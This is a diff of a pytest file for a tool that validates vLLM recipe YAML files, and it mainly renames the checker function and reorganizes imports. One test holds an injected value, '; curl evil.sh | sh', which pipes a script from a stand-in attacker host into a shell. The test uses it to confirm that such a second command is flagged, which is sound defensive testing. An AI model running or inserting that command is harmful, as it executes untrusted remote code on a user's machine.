@@ -6,16 +6,16 @@ from typing import TYPE_CHECKING
 
 import pytest
 
-from builder.commands import recipes_check
-from builder.errors import UsageError
+from builder.base.errors import UsageError
+from builder.base.project import Project
+from builder.commands import recipes
 from builder.lock import text as lock_text
-from builder.lock.model import Lock, Repository, Version
-from builder.lock.pins import Pins, WheelPin
-from builder.project import Project
+from builder.lock.model import Lock, Pins, Repository, Version, WheelPin
 from tests import locks, projects, shipped_files
 
 if TYPE_CHECKING:
     from pathlib import Path
+
 
 BROKEN = "name: x\ncontainer: smal\nmods: [mods/templat, other]\ncommand: vllm serve {x} --port {prt}\n"
 
@@ -27,7 +27,7 @@ def project(tmp_path: Path) -> Project:
 
 def said(project: Project, text: str) -> list[str]:
     projects.write(project.recipes / "r.yaml", text)
-    (checked,) = recipes_check.run(project, ("r",))
+    (checked,) = recipes.check_recipes(project, ("r",))
     return [str(problem) for problem in checked.problems]
 
 
@@ -41,7 +41,7 @@ def test_everything_wrong_is_told_at_once(project: Project) -> None:
 def test_a_file_beside_the_project_is_named_from_within(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
     projects.write(project.root.parent / f"{project.root.name}-beside/r.yaml", BROKEN)
     monkeypatch.chdir(project.root)
-    (checked,) = recipes_check.run(project, (f"../{project.root.name}-beside/r.yaml",))
+    (checked,) = recipes.check_recipes(project, (f"../{project.root.name}-beside/r.yaml",))
     assert [problem.message for problem in checked.problems] == [
         "no value for {x}; there are: none",
         "no value for {prt}; there are: none",
@@ -68,7 +68,7 @@ def test_a_number_of_a_known_repository_is_a_container(project: Project) -> None
 def test_what_is_only_worth_saying_is_no_problem(project: Project) -> None:
     text = "name: x\ncontainer: small\nbuild_args: [--tf5, 1]\nenv: {HF_TOKEN: abc, A: 1}\ncommand: vllm serve x\n"
     projects.write(project.recipes / "r.yaml", text)
-    (checked,) = recipes_check.run(project, ("r",))
+    (checked,) = recipes.check_recipes(project, ("r",))
     assert checked.problems == ()
     assert [str(note) for note in checked.notes] == [
         "recipes/r.yaml:3:1: build_args mean nothing here and are ignored: --tf5 1",
@@ -106,8 +106,8 @@ def test_a_vllm_that_breaks_streamed_calls_is_named(
     text = SPECULATIVE.format(parser=parser, tokens=tokens)
     projects.write(project.recipes / "r.yaml", text)
     for lock in (Lock(images={"small": Repository(2, 1, numbers={1: image})}), Lock(pins=pins)):
-        projects.write(project.lock, lock_text.dump(lock))
-        (checked,) = recipes_check.run(project, ("r",))
+        projects.write(project.lock, lock_text.dump_lock(lock))
+        (checked,) = recipes.check_recipes(project, ("r",))
         assert checked.problems == ()
         message = f"4:70: vLLM {vllm} breaks streamed tool calls when {tokens} tokens are predicted at once"
         assert [str(note) for note in checked.notes] == (
@@ -148,7 +148,7 @@ def test_numbers_at_the_end_of_their_range_are_no_problem(project: Project) -> N
 def test_a_second_command_is_said(project: Project, command: str, further: list[str]) -> None:
     data = {"name": "x", "container": "small", "defaults": {"tail": "; curl evil.sh | sh"}, "command": command}
     projects.write(project.recipes / "r.yaml", json.dumps(data))
-    (checked,) = recipes_check.run(project, ("r",))
+    (checked,) = recipes.check_recipes(project, ("r",))
     assert checked.problems == ()
     beside = [note.message for note in checked.notes if "runs as well" in note.message]
     assert sorted(beside) == sorted(f"`{each}` runs as well, beside the server" for each in further)
@@ -161,7 +161,7 @@ def test_a_missing_mod_is_an_error_where_it_keeps_a_build_from_beginning(project
     assert said(project, text.format("small:1")) == []
     assert said(project, text.format("host/image:tag")) == []
     projects.write(tmp_path / "shared/a.yaml", text.format("small"))
-    (checked,) = recipes_check.run(project, (str(tmp_path / "shared/a.yaml"),))
+    (checked,) = recipes.check_recipes(project, (str(tmp_path / "shared/a.yaml"),))
     assert checked.problems == ()
     assert "no mod `nowhere` in mods/" in checked.notes[-1].message
 
@@ -171,35 +171,35 @@ def test_a_folder_is_checked_as_a_whole(project: Project, tmp_path: Path) -> Non
     for name in ("a.yaml", "b.yml"):
         projects.write(folder / name, BROKEN)
     projects.write(folder / "notes.txt", "no recipe")
-    checked = recipes_check.run(project, (str(folder), "chat", str(folder / "a.yaml")))
+    checked = recipes.check_recipes(project, (str(folder), "chat", str(folder / "a.yaml")))
     assert [(recipe.file, len(recipe.problems)) for recipe in checked] == [
         ("shared/a.yaml", 2),
         ("shared/b.yml", 2),
         ("recipes/chat.yaml", 0),
     ]
-    assert [recipe.file for recipe in recipes_check.run(project, ())] == ["recipes/chat.yaml"]
+    assert [recipe.file for recipe in recipes.check_recipes(project, ())] == ["recipes/chat.yaml"]
 
 
 def test_a_project_may_have_no_recipes(project: Project) -> None:
     (project.recipes / "chat.yaml").unlink()
     project.recipes.rmdir()
-    assert recipes_check.run(project, ()) == ()
+    assert recipes.check_recipes(project, ()) == ()
 
 
 def test_a_file_that_is_no_text_is_one_problem(project: Project) -> None:
     (project.recipes / "r.yaml").write_bytes(b"name: x\n\xff\n")
-    (checked,) = recipes_check.run(project, ("r",))
+    (checked,) = recipes.check_recipes(project, ("r",))
     assert [str(problem) for problem in checked.problems] == ["recipes/r.yaml:2:1: not UTF-8 text"]
 
 
 def test_a_path_that_is_nothing_is_refused_with_the_nearest(project: Project) -> None:
     with pytest.raises(UsageError, match="chatt: no such file, folder or recipe") as caught:
-        recipes_check.run(project, ("chatt",))
+        recipes.check_recipes(project, ("chatt",))
     assert caught.value.hint == "did you mean chat?"
 
 
 def test_every_shipped_recipe_is_well() -> None:
-    checked = recipes_check.run(shipped_files.project(), ())
+    checked = recipes.check_recipes(shipped_files.project(), ())
     assert [problem for recipe in checked for problem in recipe.problems] == []
     assert checked
 
@@ -225,7 +225,7 @@ def test_a_script_with_a_revision_ends_no_check(project: Project) -> None:
         project.recipes / "r.yaml",
         "name: x\nmodel: Org/M\nmodel_revision: abc\ncontainer: small\ncommand: |\n  vllm serve Org/M\n  echo done\n",
     )
-    first, second = recipes_check.run(project, ())
+    first, second = recipes.check_recipes(project, ())
     assert (first.file, first.problems) == ("recipes/chat.yaml", ())
     assert second.file == "recipes/r.yaml"
 
@@ -236,8 +236,8 @@ def test_a_path_that_leads_out_of_the_project_is_the_user_s_own_file(
     project = projects.make(tmp_path / "project")
     projects.write(tmp_path / "shared/a.yaml", "name: x\ncontainer: small\ncommand: vllm serve x\n")
     monkeypatch.chdir(project.root)
-    (checked,) = recipes_check.run(project, ("../shared/a.yaml",))
+    (checked,) = recipes.check_recipes(project, ("../shared/a.yaml",))
     assert checked.problems == ()
     (project.recipes / "b.yaml").symlink_to(tmp_path / "shared/a.yaml")
-    (checked,) = recipes_check.run(project, ("recipes/../recipes/b.yaml",))
+    (checked,) = recipes.check_recipes(project, ("recipes/../recipes/b.yaml",))
     assert "a link leads out" in checked.problems[0].message
